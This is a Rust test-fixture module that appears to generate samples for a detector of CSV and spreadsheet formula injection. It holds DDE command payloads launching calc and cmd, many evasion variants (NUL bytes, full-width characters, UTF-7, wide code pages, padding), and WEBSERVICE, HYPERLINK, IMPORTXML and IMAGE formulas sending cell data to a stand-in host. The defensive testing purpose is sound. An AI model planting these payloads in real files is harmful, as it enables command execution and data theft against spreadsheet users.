//! Delimited text and its tricks.

use super::{CALC, EXPECT, Expect, Sample, sample};

pub(super) fn samples() -> Vec<Sample> {
    let mut all = Vec::new();
    plain(&mut all);
    prefixes(&mut all);
    hidden(&mut all);
    encodings(&mut all);
    delimiters(&mut all);
    functions(&mut all);
    wide_pages(&mut all);
    blanks(&mut all);
    silent(&mut all);
    all
}

fn plain(all: &mut Vec<Sample>) {
    let row = format!("name,amount,total\r\nMiller,5,={CALC}\r\n");
    all.push(sample("X10", "x10-comma.csv", row.clone(), EXPECT));
    all.push(sample("X10", "x10-tab.tsv", row.replace(',', "\t"), EXPECT));
    all.push(sample("X10", "x10-semicolon.txt", row.replace(',', ";"), EXPECT));
    all.push(sample("X10", "x10-fixed-width.prn", format!("name      amount\r\nMiller    ={CALC}\r\n"), EXPECT));
    all.push(sample("X10", "x10-quoted.csv", format!("a,b\n1,\"={CALC}\"\n"), EXPECT));
    all.push(sample("X10", "x10-only-line.csv", format!("={CALC}"), EXPECT));
    all.push(sample("extension-lies", "x10-text-as-workbook.xls", row, EXPECT));
}

fn prefixes(all: &mut Vec<Sample>) {
    for (name, cell) in [
        ("prefix-plus.csv", format!("+{CALC}")),
        ("prefix-minus.csv", format!("-2+3+{CALC}")),
        ("prefix-at.csv", format!("@SUM({CALC})")),
        ("prefix-at-sum-times.csv", format!("@SUM(1+1)*{CALC}")),
        ("prefix-equals-plus.csv", format!("=+{CALC}")),
    ] {
        all.push(sample("formula-prefix", name, format!("a,b\n1,{cell}\n"), EXPECT));
    }
    for (name, padding) in [
        ("padding-tab.csv", "\t"),
        ("padding-return.csv", "\r"),
        ("padding-blank.csv", "   "),
        ("padding-mark.csv", "\u{feff}\u{feff}"),
        ("padding-no-break-space.csv", "\u{a0}"),
        ("padding-zero-width.csv", "\u{200b}"),
        ("padding-empty-quotes.csv", "\"\""),
        ("padding-quoted-newline.csv", "\"\n"),
    ] {
        let close = if padding == "\"\n" { "\"" } else { "" };
        all.push(sample("formula-padding", name, format!("{padding}={CALC}{close}\n"), EXPECT));
    }
}

fn hidden(all: &mut Vec<Sample>) {
    let chain = "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A+cmd|'/c calc.exe'!A";
    all.push(sample("formula-chain", "chain.csv", chain, Expect::Dde("cmd", "/c calc.exe")));
    all.push(sample("formula-chain", "chain-arithmetic.csv", format!("=2+5+{CALC}"), EXPECT));
    all.push(sample(
        "long-service",
        "long-service.csv",
        "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
        Expect::Dde("rundll321234567890abcdefghijklmnopqrstuvwxyz", "URL.dll,OpenURL calc.exe"),
    ));
    all.push(sample(
        "path-trick",
        "path-trick.csv",
        r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''",
        Expect::Dde("MSEXCEL", r"\..\..\..\Windows\System32\cmd.exe /c calc"),
    ));
    all.push(sample("nul-bytes", "nul-bytes.csv", "a,b\n1,=\0c\0\0m\0\0d\0\0\0|'/c \0calc\0'\0!\0A\u{30}\n", EXPECT));
    all.push(sample(
        "nul-bytes",
        "nul-bytes-shown-as-blanks.csv",
        "=    C    m D                    |'/        c       c  al  c  .  e                  x       e  '   !   A",
        Expect::Dde("CmD", "/        c       c  al  c  .  e                  x       e  "),
    ));
    let wide = "a,b\n1,\u{ff1d}\u{ff43}\u{ff4d}\u{ff44}\u{ff5c}'/c calc'\u{ff01}\u{ff21}\u{ff10}\n";
    all.push(sample("full-width", "full-width.csv", wide, EXPECT));
    for (name, prefix) in
        [("full-width-plus.csv", '\u{ff0b}'), ("full-width-minus.csv", '\u{ff0d}'), ("full-width-at.csv", '\u{ff20}')]
    {
        all.push(sample("full-width", name, format!("{prefix}cmd\u{ff5c}'/c calc'\u{ff01}A0\n"), EXPECT));
    }
    all.push(sample("odd-separators", "typographic-quotes.csv", "=cmd|\u{2018}/c calc\u{2019}!A0\n", EXPECT));
}

fn utf16(text: &str, big: bool, mark: bool) -> Vec<u8> {
    let mark = mark.then_some(0xfeff_u16);
    mark.into_iter()
        .chain(text.encode_utf16())
        .flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() })
        .collect()
}

fn utf32(text: &str, big: bool, mark: bool) -> Vec<u8> {
    let mark = mark.then_some(0xfeff_u32);
    mark.into_iter()
        .chain(text.chars().map(u32::from))
        .flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() })
        .collect()
}

fn encodings(all: &mut Vec<Sample>) {
    let text = format!("name,amount\r\nM\u{fc}ller,={CALC}\r\n");
    // A scanner that takes the pattern of NUL bytes for UTF-16 does not see the first line.
    let posing = [format!("={CALC}\r\n").into_bytes(), b"\0a".repeat(400)].concat();
    all.push(sample("nul-bytes", "encoding-posing-as-utf16.csv", posing, EXPECT));
    all.push(sample("text-encoding", "encoding-utf8-mark.csv", format!("\u{feff}{text}"), EXPECT));
    all.push(sample("text-encoding", "encoding-utf16le.csv", utf16(&text, false, true), EXPECT));
    all.push(sample("text-encoding", "encoding-utf16be.csv", utf16(&text, true, true), EXPECT));
    all.push(sample("text-encoding", "encoding-utf16le-no-mark.csv", utf16(&text, false, false), EXPECT));
    all.push(sample("text-encoding", "encoding-utf16be-no-mark.csv", utf16(&text, true, false), EXPECT));
    all.push(sample("text-encoding", "encoding-utf32le.csv", utf32(&text, false, true), EXPECT));
    all.push(sample("text-encoding", "encoding-utf32be.csv", utf32(&text, true, true), EXPECT));
    all.push(sample("text-encoding", "encoding-utf32le-no-mark.csv", utf32(&text, false, false), EXPECT));
    let ansi: Vec<u8> = text.chars().map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?')).collect();
    all.push(sample("text-encoding", "encoding-ansi.csv", ansi, EXPECT));
    let seven = "name,amount\r\nMiller,+AD0-cmd+AHw-'/c calc'+ACE-A0\r\n";
    all.push(sample("text-encoding", "encoding-utf7.csv", seven, EXPECT));
    all.push(sample("text-encoding", "encoding-utf7-mark.csv", format!("+/v8-{seven}"), EXPECT));
}

/// Names of the loud and the silent sample, the header's letters, and the three signs.
type Page = ([&'static str; 2], &'static [u8], [&'static [u8]; 3]);

/// Full-width signs as two bytes: `=`, bar and `!` in each code page, behind a header in its letters.
fn wide_pages(all: &mut Vec<Sample>) {
    let pages: [Page; 5] = [
        (
            ["wide-shift-jis.csv", "silent-wide-shift-jis.csv"],
            b"\x96\xbc\x91\x4f",
            [b"\x81\x81", b"\x81\x62", b"\x81\x49"],
        ),
        (["wide-gbk.csv", "silent-wide-gbk.csv"], b"\xc3\xfb\xb3\xc6", [b"\xa3\xbd", b"\xa3\xfc", b"\xa3\xa1"]),
        (["wide-euc-kr.csv", "silent-wide-euc-kr.csv"], b"\xc0\xcc\xb8\xa7", [b"\xa3\xbd", b"\xa3\xfc", b"\xa3\xa1"]),
        (["wide-big5.csv", "silent-wide-big5.csv"], b"\xa6\x57\xba\xd9", [b"\xa1\xd7", b"\xa1\x55", b"\xa1\x49"]),
        (["wide-euc-jp.csv", "silent-wide-euc-jp.csv"], b"\xcc\xbe\xc1\xb0", [b"\xa1\xe1", b"\xa1\xc3", b"\xa1\xaa"]),
    ];
    for ([name, quiet], header, [equals, bar, bang]) in pages {
        let parts: [&[u8]; 9] = [header, b",b\n1,", equals, b"cmd", bar, b"'/c calc'", bang, b"A1", b"\n"];
        all.push(sample("text-encoding", name, parts.concat(), EXPECT));
        let parts: [&[u8]; 9] = [header, b",b\n1,x", equals, b"y", bar, b" z", bang, b"A1", b"\n"];
        all.push(sample("text-encoding", quiet, parts.concat(), Expect::Silent));
    }
}

/// Columns that blanks part, binary bytes around a formula, and cells that are no formula.
fn blanks(all: &mut Vec<Sample>) {
    all.push(sample("X10", "blanks-three.prn", format!("a   b\n1   ={CALC}\n"), EXPECT));
    all.push(sample("X10", "blanks-column.txt", format!("a b\n1 ={CALC}\n"), EXPECT));
    let prose = format!("The cell in question holds\nformula ={CALC}, which is bad.\n");
    all.push(sample("X10", "silent-blanks-prose.txt", prose, Expect::Silent));
    let stuffed = format!("{}\n={CALC}\n", "\u{1}\u{2}ab\u{3}cdefgh".repeat(30));
    all.push(sample("X10", "controls-around.csv", stuffed, EXPECT));
    all.push(sample("formula-prefix", "signs-repeat.csv", format!("a,b\n1,=+-+{CALC}\n"), EXPECT));
    all.push(sample("X10", "blanks-around.csv", "a,b\n1,= 2 + cmd|foo!bar * 1\n", Expect::Dde("cmd", "foo")));
    let broken = "=> a|b!c\n== x|y!z\n= cmd|foo!bar =\n=head1 a|b!c\n+++ b/x|y!z\n--- a/x|y!z\n@@ -1,2 +1,2 @@ x|y!z\n";
    all.push(sample("X10", "silent-no-formula.txt", broken, Expect::Silent));
}

fn delimiters(all: &mut Vec<Sample>) {
    all.push(sample("odd-delimiter", "sep-line.csv", format!("sep=^\r\nname^amount\r\nMiller^={CALC}\r\n"), EXPECT));
    all.push(sample("odd-delimiter", "sep-line-semicolon.csv", format!("sep=;\r\nMiller;={CALC}\r\n"), EXPECT));
    all.push(sample("odd-delimiter", "bar.csv", format!("a|b|c\n1|\"={CALC}\"|3\n"), EXPECT));
    all.push(sample(
        "odd-delimiter",
        "comma-in-topic.csv",
        "a;b\n1;=cmd|'/c calc,x'!A0\n",
        Expect::Dde("cmd", "/c calc,x"),
    ));
}

fn functions(all: &mut Vec<Sample>) {
    let name = "libreoffice-dde.csv";
    all.push(sample("X10", name, "a\n\"=DDE(\"\"cmd\"\";\"\"/c calc\"\";\"\"x\"\")\"\n", EXPECT));
    all.push(sample("X10", "libreoffice-dde-bare.csv", "=DDE(\"cmd\";\"/c calc\";\"x\")\n", EXPECT));
    all.push(sample("X10", "libreoffice-dde-in-row.csv", "1,=DDE(\"cmd\",\"/c calc\",\"x\"),2\n", EXPECT));
    all.push(sample("mixed-case", "libreoffice-dde-case.csv", "=dDe(\"cmd\";\"/c calc\";\"x\")\n", EXPECT));
    let related = Expect::Related("exfiltration");
    let web = "id,note\n1,\"=WEBSERVICE(\"\"http://collector.example/?q=\"\"&A1)\"\n";
    all.push(sample("X15", "x15-webservice.csv", web, related.clone()));
    let link = "id,note\n1,\"=HYPERLINK(\"\"http://collector.example/?q=\"\"&A1,\"\"open\"\")\"\n";
    all.push(sample("X15", "x15-hyperlink-with-cells.csv", link, related.clone()));
    let import = "id,note\n1,\"=IMPORTXML(CONCAT(\"\"http://collector.example/?q=\"\",A1),\"\"//a\"\")\"\n";
    all.push(sample("X15", "x15-importxml.csv", import, related.clone()));
    let image = "id;note\n1;\"=IMAGE(\"\"https://collector.example/i?q=\"\"&A1)\"\n";
    all.push(sample("X15", "x15-image-with-cells.csv", image, related));
}

fn silent(all: &mut Vec<Sample>) {
    let quiet = |name, text: &str| sample("X10", name, text, Expect::Silent);
    all.push(quiet("silent-numbers.csv", "a,b,c\n-5,+1 555 123,-1.5e3\n@miller,=SUM(A1:B1),2021-01-02\n"));
    all.push(quiet("silent-apostrophe.csv", &format!("a,b\n1,'={CALC}\n")));
    all.push(quiet("silent-string-literal.csv", "a,b\n1,\"=\"\"cmd|'/c calc'!A0\"\"\"\n"));
    all.push(quiet("silent-no-prefix.csv", &format!("a,b\n1,{CALC}\n")));
    all.push(quiet("silent-words.csv", "feature,note\nDDE,uses DDE and DDEAUTO fields\nDDE (old),see DDE(1991)\n"));
    all.push(quiet("silent-markdown.txt", "# Table\n\n| a | b |\n|---|---|\n| - x | y! |\n| =a | b!c |\n"));
    all.push(quiet("silent-source.txt", "if (a || b) { run(\"x|y!z\"); }\n- a || b!\n- ls | wc -l\n+ cat x | sh!\n"));
    all.push(quiet(
        "silent-prose.txt",
        &format!("An attacker writes `={CALC}` into a cell.\nIt is +1 on -x|y! here.\n"),
    ));
    all.push(quiet("silent-link.csv", "a,b\n1,\"=HYPERLINK(\"\"https://project.example/\"\",\"\"site\"\")\"\n"));
    all.push(quiet("silent-workbook.csv", "a,b\n1,='C:\\[book.xls]Sheet1'!A1\n2,=[1]Sheet1!A1\n"));
    all.push(quiet("silent-feed-words.csv", "mail,handle\nbob@host.example,@bob\n+49 30 123,-12 %\n"));
}
